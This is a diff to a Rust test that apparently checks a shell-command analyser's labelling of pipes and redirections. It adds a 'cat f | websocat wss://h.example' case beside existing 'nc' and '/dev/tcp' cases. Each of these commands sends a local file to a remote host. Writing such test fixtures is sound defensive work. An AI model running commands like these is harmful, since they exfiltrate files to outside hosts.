@@ -20,6 +20,10 @@ fn pipes_and_redirections() {
         ),
         ("nc h.example 80 < f", "r:f session>h.example f->h.example"),
         (
+            "cat f | websocat wss://h.example",
+            "r:f session>h.example f->h.example",
+        ),
+        (
             "cat f > /dev/tcp/h.example/80",
             "r:f upload>h.example f->h.example",
         ),
